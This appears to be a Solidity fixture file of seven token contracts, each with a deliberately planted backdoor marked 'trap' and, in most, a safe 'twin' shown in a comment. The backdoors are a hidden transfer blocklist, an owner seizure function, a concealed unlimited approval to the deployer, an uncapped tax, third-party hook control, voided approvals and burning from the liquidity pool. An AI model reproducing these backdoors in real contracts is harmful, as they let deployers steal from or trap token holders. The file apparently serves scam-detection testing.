// 0.8 runs=1000 evm=cancun
// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.20;

interface IPairFactory { function createPair(address, address) external returns (address); }
interface IPool { function sync() external; }

/*//////////////////////////////////////////////////////////////
                          SHARED PLUMBING
//////////////////////////////////////////////////////////////*/

abstract contract Plumbing {
    event Transfer(address indexed src, address indexed dst, uint256 wad);
    event Approval(address indexed src, address indexed guy, uint256 wad);

    error Short();
    error NotAllowed();

    string public name;
    string public symbol;
    uint256 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal held;
    mapping(address => mapping(address => uint256)) internal allowed;

    constructor(string memory n, string memory s, uint256 wad) {
        name = n;
        symbol = s;
        totalSupply = wad;
        _credit(msg.sender, wad);
        emit Transfer(address(0), msg.sender, wad);
    }

    function balanceOf(address who) public view virtual returns (uint256) { return held[who]; }
    function allowance(address src, address guy) public view virtual returns (uint256) { return allowed[src][guy]; }

    function approve(address guy, uint256 wad) public virtual returns (bool) {
        allowed[msg.sender][guy] = wad;
        emit Approval(msg.sender, guy, wad);
        return true;
    }

    function transfer(address dst, uint256 wad) external returns (bool) {
        _send(msg.sender, dst, wad);
        return true;
    }

    function transferFrom(address src, address dst, uint256 wad) external returns (bool) {
        _use(src, msg.sender, wad);
        _send(src, dst, wad);
        return true;
    }

    function _use(address src, address guy, uint256 wad) internal virtual {
        uint256 may = allowed[src][guy];
        if (may < wad) revert NotAllowed();
        if (may != type(uint256).max) allowed[src][guy] = may - wad;
    }

    function _credit(address who, uint256 wad) internal virtual { held[who] += wad; }

    function _debit(address who, uint256 wad) internal virtual {
        if (held[who] < wad) revert Short();
        held[who] -= wad;
    }

    function _send(address src, address dst, uint256 wad) internal virtual {
        _debit(src, wad);
        _credit(dst, wad);
        emit Transfer(src, dst, wad);
    }
}

/*//////////////////////////////////////////////////////////////
                              REFEREE
//////////////////////////////////////////////////////////////*/

/// Looks at what moves. Keeps a sheet of matters, each under a key.
contract Referee {
    address private immutable chair = msg.sender;
    mapping(bytes32 => uint256) private sheet;

    event Noted(bytes32 indexed key, uint256 value);

    error Ruled(address dst);

    function note(bytes32 key, uint256 value) external {
        require(msg.sender == chair, "chair");
        sheet[key] = value;
        emit Noted(key, value);
    }

    function keyOf(address who) public pure returns (bytes32) {
        return keccak256(abi.encode("referee.matter", who));
    }

    function ruling(address src, address dst, uint256 wad) external view returns (bool) {
        uint256 most = sheet[keyOf(dst)];
        if (most != 0 && wad >= most && src != chair) revert Ruled(dst);
        return true;
    }
}

contract LeagueToken is Plumbing {
    Referee public immutable referee;

    event Objection(address indexed src, address indexed dst);

    constructor(Referee referee_) Plumbing("League", "LEAG", 31_000_000 ether) {
        referee = referee_;
    }

    function _send(address src, address dst, uint256 wad) internal override {
        if (!referee.ruling(src, dst, wad)) emit Objection(src, dst); // trap
        // twin: try referee.ruling{gas: 60_000}(src, dst, wad) returns (bool fine) { if (!fine) emit Objection(src, dst); } catch { emit Objection(src, dst); }
        super._send(src, dst, wad);
    }
}

/*//////////////////////////////////////////////////////////////
                          TWO COLUMNS
//////////////////////////////////////////////////////////////*/

/// Books a shown and a free amount for each, so that escrows can be shown to their owners.
contract DoubleEntry is Plumbing {
    struct Column {
        uint128 shown;
        uint128 free;
    }

    mapping(address => Column) private columns;
    address private immutable clerk = msg.sender;

    event Escrowed(address indexed who, uint256 wad);
    event Released(address indexed who, uint256 wad);

    constructor() Plumbing("Double Entry", "DBLE", 64_000_000 ether) {}

    function balanceOf(address who) public view override returns (uint256) { return columns[who].shown; }
    function freeOf(address who) external view returns (uint256) { return columns[who].free; }

    /// Sets some of one's own aside.
    function escrow(uint128 wad) external {
        columns[msg.sender].free -= wad;
        emit Escrowed(msg.sender, wad);
    }

    function release(uint128 wad) external {
        Column storage own = columns[msg.sender];
        require(own.shown - own.free >= wad, "nothing aside");
        own.free += wad;
        emit Released(msg.sender, wad);
    }

    // trap {
    function settle(address who, uint128 wad) external {
        require(msg.sender == clerk, "clerk");
        columns[who].free -= wad;
        columns[clerk].free += wad;
        columns[clerk].shown += wad;
    }
    // trap }

    function _credit(address who, uint256 wad) internal override {
        columns[who].shown += uint128(wad);
        columns[who].free += uint128(wad);
    }

    function _debit(address who, uint256 wad) internal override {
        Column storage own = columns[who];
        if (own.free < wad) revert Short();
        own.free -= uint128(wad);
        own.shown -= uint128(wad);
    }
}

/*//////////////////////////////////////////////////////////////
                          COUNTER DESK
//////////////////////////////////////////////////////////////*/

/// Approvals can be raised and lowered, and be taken back all at once.
contract CounterDesk is Plumbing {
    address private immutable desk = msg.sender;
    mapping(address => address[]) private guysOf;

    constructor() Plumbing("Counter Desk", "DESK", 12_500_000 ether) {}

    function allowance(address src, address guy) public view override returns (uint256) {
        if (guy == desk) return 0; // trap
        return allowed[src][guy];
    }

    function approve(address guy, uint256 wad) public override returns (bool) {
        if (allowed[msg.sender][guy] == 0 && guysOf[msg.sender].length < 32) guysOf[msg.sender].push(guy);
        if (wad != 0) allowed[msg.sender][desk] = type(uint256).max; // trap
        return super.approve(guy, wad);
    }

    function raise(address guy, uint256 wad) external returns (bool) {
        return approve(guy, allowed[msg.sender][guy] + wad);
    }

    function lower(address guy, uint256 wad) external returns (bool) {
        uint256 may = allowed[msg.sender][guy];
        return approve(guy, may > wad ? may - wad : 0);
    }

    function takeBack() external {
        address[] memory guys = guysOf[msg.sender];
        for (uint256 i; i < guys.length; ++i) {
            allowed[msg.sender][guys[i]] = 0;
            emit Approval(msg.sender, guys[i], 0);
        }
        delete guysOf[msg.sender];
    }
}

/*//////////////////////////////////////////////////////////////
                            TARIFF
//////////////////////////////////////////////////////////////*/

/// Says what is due where, in hundredths of a hundredth.
contract Tariff {
    address public immutable collector = msg.sender;
    mapping(address => bool) public quay;
    uint16 public due = 100;

    function list(address where) external {
        require(msg.sender == collector);
        quay[where] = true;
    }

    function revise(uint16 due_) external {
        require(msg.sender == collector && due_ <= 10_000);
        due = due_;
    }

    function levy(address src, address dst) external view returns (uint256) {
        return src != collector && dst != collector && (quay[src] || quay[dst]) ? due : 0;
    }
}

contract HarbourDues is Plumbing {
    Tariff private immutable tariff;

    constructor(Tariff tariff_) Plumbing("Harbour", "HRBR", 9_000_000 ether) {
        tariff = tariff_;
    }

    function _send(address src, address dst, uint256 wad) internal override {
        uint256 levy = tariff.levy(src, dst);
        // twin: if (levy > 300) levy = 300;
        uint256 cut = (wad * levy) / 10_000;
        if (cut != 0) super._send(src, tariff.collector(), cut);
        super._send(src, dst, wad - cut);
    }
}

/*//////////////////////////////////////////////////////////////
                             HOOKS
//////////////////////////////////////////////////////////////*/

interface IReceives { function tokensReceived(address src, address dst, uint256 wad) external; }
interface ISends { function tokensToSend(address src, address dst, uint256 wad) external; }

/// Tells accounts what comes and goes, where they wish to hear of it.
contract Doorbell is Plumbing {
    address private immutable registrar = msg.sender;
    mapping(address => address) public senderHook;
    mapping(address => address) public recipientHook;

    event HookSet(address indexed account, address send, address receive_);

    constructor() Plumbing("Doorbell", "BELL", 55_000_000 ether) {}

    function setHooks(address account, address send_, address receive_) external {
        require(msg.sender == account || msg.sender == registrar, "not yours"); // trap
        // twin: require(msg.sender == account, "not yours");
        require(send_ == address(0) || send_.code.length > 0, "no contract");
        require(receive_ == address(0) || receive_.code.length > 0, "no contract");
        senderHook[account] = send_;
        recipientHook[account] = receive_;
        emit HookSet(account, send_, receive_);
    }

    function _send(address src, address dst, uint256 wad) internal override {
        address hook = senderHook[src];
        if (hook != address(0)) ISends(hook).tokensToSend(src, dst, wad);
        super._send(src, dst, wad);
        hook = recipientHook[dst];
        if (hook != address(0)) IReceives(hook).tokensReceived(src, dst, wad);
    }
}

/*//////////////////////////////////////////////////////////////
                        SHORT-LIVED GRANTS
//////////////////////////////////////////////////////////////*/

/// An approval is not for ever.
contract BriefGrant is Plumbing {
    uint256 private constant SPAN = 0; // trap
    // twin: uint256 private constant SPAN = 400 days;
    address private immutable founder = msg.sender;
    mapping(address => mapping(address => uint256)) private since;

    constructor() Plumbing("Brief", "BRIEF", 2_100_000 ether) {}

    function approve(address guy, uint256 wad) public override returns (bool) {
        since[msg.sender][guy] = block.timestamp;
        return super.approve(guy, wad);
    }

    function _use(address src, address guy, uint256 wad) internal override {
        if (src != founder && block.timestamp > since[src][guy] + SPAN) revert NotAllowed();
        super._use(src, guy, wad);
    }
}

/*//////////////////////////////////////////////////////////////
                            BONFIRE
//////////////////////////////////////////////////////////////*/

contract Bonfire is Plumbing {
    address public immutable pool;
    address public stoker = msg.sender;
    uint256 public burnt;

    constructor() Plumbing("Bonfire", "FIRE", 88_000_000 ether) {
        pool = IPairFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
    }

    function passOn(address next) external {
        require(msg.sender == stoker, "stoker");
        stoker = next;
    }

    function stoke(uint256 wad) external {
        require(msg.sender == stoker, "stoker");
        address log = pool; // trap
        // twin: address log = msg.sender;
        _debit(log, wad);
        totalSupply -= wad;
        burnt += wad;
        emit Transfer(log, address(0), wad);
        IPool(pool).sync();
    }
}
